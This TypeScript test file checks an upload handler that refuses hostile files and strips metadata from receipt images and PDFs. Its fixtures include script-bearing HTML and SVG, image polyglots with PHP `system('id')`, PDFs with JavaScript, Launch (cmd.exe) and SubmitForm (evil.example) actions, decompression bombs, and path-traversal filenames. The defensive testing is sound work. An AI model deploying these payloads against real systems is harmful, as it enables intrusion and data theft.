/** Files as hostile senders make them: each is refused with its own plain reason, or is a harmless picture afterwards. */
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { deflateSync } from "node:zlib";
import PdfDocument from "pdfkit";
import sharp from "sharp";
import { afterAll, describe, expect, it } from "vitest";
import { FILE_REFUSALS, type FileRefusal, RECEIPT_REFUSALS } from "../messages.ts";
import { createFileOpener } from "../open/open-file.ts";
import { nameFor } from "../shape.ts";

const opener = createFileOpener();
afterAll(() => opener.close());

const jpeg = await sharp({ create: { width: 300, height: 400, channels: 3, background: "#eeeeee" } })
  .jpeg()
  .toBuffer();
const zip = Buffer.concat([
  Buffer.from("504b0304140000000000000000000000000000000000000000000100000061", "hex"),
  Buffer.from("504b0506000000000100010000000000000000000000", "hex"),
]);
const latin = (text: string) => Buffer.from(text, "latin1");

/** A PNG that says how large it is and has hardly anything in it. */
function pngOf(width: number, height: number): Buffer {
  const part = (name: string, data: Buffer) => {
    const body = Buffer.concat([latin(name), data]);
    const frame = Buffer.alloc(8);
    frame.writeUInt32BE(data.length, 0);
    frame.writeUInt32BE(crc(body), 4);
    return Buffer.concat([frame.subarray(0, 4), body, frame.subarray(4)]);
  };
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 0, 0, 0, 0], 8);
  const body = deflateSync(Buffer.alloc(Math.min(60_000_000, (width + 1) * height)));
  return Buffer.concat([
    Buffer.from("89504e470d0a1a0a", "hex"),
    part("IHDR", head),
    part("IDAT", body),
    part("IEND", Buffer.alloc(0)),
  ]);
}
function crc(bytes: Buffer): number {
  let value = 0xffffffff;
  for (const byte of bytes) {
    value ^= byte;
    for (let bit = 0; bit < 8; bit += 1) value = value & 1 ? (value >>> 1) ^ 0xedb88320 : value >>> 1;
  }
  return (value ^ 0xffffffff) >>> 0;
}

type Pdf = InstanceType<typeof PdfDocument>;
const pdfOf = (write: (pdf: Pdf) => void, options: ConstructorParameters<typeof PdfDocument>[0] = {}) =>
  new Promise<Buffer>((settle) => {
    const pdf = new PdfDocument({ size: [300, 400], margin: 20, compress: true, ...options });
    const parts: Buffer[] = [];
    pdf.on("data", (part: Buffer) => parts.push(part));
    pdf.on("end", () => settle(Buffer.concat(parts)));
    write(pdf);
    pdf.end();
  });

/** A PDF from its objects, number one the catalog; `content` is drawn on its page. */
function rawPdf(catalog: string, objects: readonly Buffer[] = [], content = latin("BT ET"), page = ""): Buffer {
  const all = [
    latin(`<< /Type /Catalog /Pages 2 0 R ${catalog} >>`),
    latin("<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
    latin(`<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 400] /Contents 4 0 R ${page} >>`),
    streamOf("", content),
    ...objects,
  ];
  let body = latin("%PDF-1.7\n");
  const places = all.map((object, at) => {
    const place = body.length;
    body = Buffer.concat([body, latin(`${at + 1} 0 obj\n`), object, latin("\nendobj\n")]);
    return place;
  });
  const table = places.map((place) => `${String(place).padStart(10, "0")} 00000 n \n`).join("");
  return Buffer.concat([
    body,
    latin(
      `xref\n0 ${all.length + 1}\n0000000000 65535 f \n${table}trailer\n<< /Size ${all.length + 1} /Root 1 0 R >>\nstartxref\n${body.length}\n%%EOF\n`,
    ),
  ]);
}
const streamOf = (facts: string, bytes: Buffer): Buffer =>
  Buffer.concat([latin(`<< /Length ${bytes.length} ${facts} >>\nstream\n`), bytes, latin("\nendstream")]);
const packed = (bytes: Buffer) => streamOf("/Filter /FlateDecode", deflateSync(bytes));

const HOSTILE: readonly [string, FileRefusal, () => Buffer | Promise<Buffer>][] = [
  ["nothing", "file_empty", () => Buffer.alloc(0)],
  ["a page", "file_invalid", () => latin("<!doctype html><script>alert(1)</script>")],
  ["a drawing with a script", "file_invalid", () => latin('<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>')],
  ["an animation", "file_invalid", () => latin("GIF89a=1;alert(1)//")],
  ["a packed folder", "file_invalid", () => zip],
  ["a program", "file_invalid", () => Buffer.concat([Buffer.from("7f454c4602010100", "hex"), Buffer.alloc(200)])],
  ["plain text", "file_invalid", () => latin("total 4.00")],
  ["random bytes", "file_invalid", () => Buffer.alloc(5_000, 7)],
  ["a picture that is also a packed folder", "file_mixed", () => Buffer.concat([jpeg, zip])],
  ["a picture that is also a page", "file_mixed", () => Buffer.concat([jpeg, latin("<html><script>1</script>")])],
  ["a picture that is also a program", "file_mixed", () => Buffer.concat([jpeg, latin("<?php system('id');")])],
  ["a picture that is also a PDF", "file_mixed", () => Buffer.concat([jpeg, rawPdf("")])],
  ["a PDF with a page behind it", "file_mixed", () => Buffer.concat([rawPdf(""), latin("<html>")])],
  ["half a picture", "file_broken", () => jpeg.subarray(0, 400)],
  ["the head of a PDF", "file_broken", () => latin("%PDF-1.7\nnothing")],
  ["a picture of 3,600 megapixels", "picture_large", () => pngOf(60_000, 60_000)],
  ["one of 56 that is packed into a few bytes", "picture_large", () => pngOf(8_000, 7_000)],
  ["a PDF of 11 pages", "pdf_long", () => pdfOf((pdf) => void Array.from({ length: 10 }, () => pdf.addPage()))],
  ["a locked PDF", "pdf_locked", () => pdfOf((pdf) => void pdf.text("x"), { userPassword: "secret" })],
  [
    "one that only its owner may change",
    "pdf_locked",
    () => pdfOf((pdf) => void pdf.text("x"), { ownerPassword: "secret" }),
  ],
  ["a script when it opens", "pdf_active", () => rawPdf("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>")],
  ["the same, written in figures", "pdf_active", () => rawPdf("/OpenAction << /S /J#61vaScript /#4a#53 (1) >>")],
  ["a program that is begun", "pdf_active", () => rawPdf("/OpenAction << /S /Launch /F (cmd.exe) >>")],
  ["a form that sends itself", "pdf_active", () => rawPdf("/OpenAction << /S /SubmitForm /F (http://evil.example) >>")],
  ["a file inside", "pdf_active", () => pdfOf((pdf) => void pdf.file(Buffer.from("x"), { name: "x.exe" }))],
];

describe("a file that is no picture and no PDF, or more than one, is refused with its reason", () => {
  it.each(HOSTILE)("%s: %s", async (_what, code, make) => {
    expect(await opener.open(await make())).toEqual({ ok: false, code });
  });

  it("has plain words for each reason in both languages", () => {
    for (const code of FILE_REFUSALS) {
      const { en, es } = RECEIPT_REFUSALS[code];
      expect([en.length > 20, es.length > 20, en === es]).toEqual([true, true, false]);
    }
  });
});

it("a script that is packed away is found too", async () => {
  const catalog =
    "<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert) >>] >> >> >>";
  const head = "6 0 ";
  const bytes = deflateSync(latin(head + catalog));
  const objects = streamOf(`/Type /ObjStm /N 1 /First ${head.length} /Filter /FlateDecode`, bytes);
  // Objects in a stream need a table that is a stream as well.
  let pdf = latin("%PDF-1.7\n");
  const places: number[] = [];
  for (const [at, object] of [
    latin("null"),
    latin("<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
    latin("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 400] >>"),
    latin("null"),
    objects,
  ].entries()) {
    places.push(pdf.length);
    pdf = Buffer.concat([pdf, latin(`${at + 1} 0 obj\n`), object, latin("\nendobj\n")]);
  }
  const table = Buffer.alloc(8 * 5);
  const row = (at: number, kind: number, a: number, b: number) => {
    table.writeUInt8(kind, at * 5);
    table.writeUInt16BE(a, at * 5 + 1);
    table.writeUInt16BE(b, at * 5 + 3);
  };
  for (const [at, place] of places.entries()) row(at + 1, 1, place, 0);
  row(6, 2, 5, 0);
  row(7, 1, pdf.length, 0);
  const end = streamOf("/Type /XRef /Size 8 /W [1 2 2] /Root 6 0 R", table);
  const whole = Buffer.concat([pdf, latin("7 0 obj\n"), end, latin(`\nendobj\nstartxref\n${pdf.length}\n%%EOF\n`)]);
  expect(await opener.open(whole)).toEqual({ ok: false, code: "pdf_active" });
});

it("what unpacks to hundreds of megabytes ends by itself, and the server works on", async () => {
  const bomb = rawPdf("", [], latin("BT ET"), "/Annots []");
  expect((await opener.open(bomb)).ok).toBe(true);
  const line = latin("0 0 m 300 400 l S\n");
  const content = packed(Buffer.alloc(40_000_000, line));
  const huge = rawPdf("", [content], latin("BT ET")).toString("latin1").replace("/Contents 4 0 R", "/Contents 5 0 R");
  const slow = createFileOpener({ open_ms: 1_500 });
  expect(await slow.open(latin(huge))).toEqual({ ok: false, code: "file_broken" });
  await slow.close();
  expect((await opener.open(jpeg)).ok).toBe(true);
});

it("a picture is kept upright, without its places and programs, and whoever changed it is told", async () => {
  const told = await sharp(jpeg)
    .withExif({ IFD0: { Software: "Adobe Photoshop 25.0" }, IFD3: { GPSLatitude: "51/1 30/1 0/1" } })
    .withMetadata({ orientation: 6 })
    .jpeg()
    .toBuffer();
  const opened = await opener.open(told);
  if (!opened.ok) throw new Error(opened.code);
  const { signs, pages, type, look } = opened.value;
  expect([type, signs, look.length]).toEqual(["image/jpeg", ["picture_editor"], 64]);
  const page = await sharp(Buffer.from(pages[0] ?? [])).metadata();
  expect([page.width, page.height, page.exif, page.xmp, page.format]).toEqual([400, 300, undefined, undefined, "jpeg"]);
});

it("a telephone's own kind of picture (HEIC) is kept as one of ours, and half of one is refused", async () => {
  const heic = readFileSync(join(import.meta.dirname, "telephone.heic"));
  const opened = await opener.open(heic);
  if (!opened.ok) throw new Error(opened.code);
  expect([opened.value.type, opened.value.pages.length]).toEqual(["image/heic", 1]);
  const page = sharp(Buffer.from(opened.value.pages[0] ?? []));
  expect(await page.metadata()).toMatchObject({ format: "jpeg", width: 128, height: 192 });
  // The paper is white, and the strip at its foot is red.
  const colorAt = async (top: number) => [
    ...(await page.clone().extract({ left: 64, top, width: 1, height: 1 }).raw().toBuffer()),
  ];
  expect((await colorAt(8)).map((part) => part > 100)).toEqual([true, true, true]);
  expect((await colorAt(176)).map((part) => part > 100)).toEqual([true, false, false]);
  expect(await opener.open(heic.subarray(0, 700))).toMatchObject({ ok: false, code: "file_broken" });
});

it("a PDF is kept as its pages and its words, and what changed it is told", async () => {
  const made = await pdfOf((pdf) => void pdf.fontSize(20).text("TOTAL 12.50"), {
    info: {
      Producer: "Sejda 5",
      CreationDate: new Date("2027-01-02T10:00:00Z"),
      ModDate: new Date("2027-01-03T10:00:00Z"),
    },
  });
  const opened = await opener.open(Buffer.concat([made, latin("\n%%EOF\n")]));
  if (!opened.ok) throw new Error(opened.code);
  expect(opened.value).toMatchObject({
    type: "application/pdf",
    text: "TOTAL 12.50",
    signs: ["pdf_editor", "pdf_changed_later"],
  });
  const plain = await opener.open(await pdfOf((pdf) => void pdf.text("TOTAL 12.50")));
  expect(plain).toMatchObject({ ok: true, value: { signs: [], pages: { length: 1 } } });
});

it("what a member calls it never becomes a path, a program or another kind of file", () => {
  expect(nameFor("../../etc/passwd", "image/png")).toBe("passwd.png");
  expect(nameFor("receipt.jpg.exe", "image/jpeg")).toBe("receipt-jpg.jpg");
  expect(nameFor("C:\\x\u0000\u202Egpj.<script>", "application/pdf")).toBe("x-gpj.pdf");
  expect(nameFor("...", "image/webp")).toBe("receipt.webp");
});
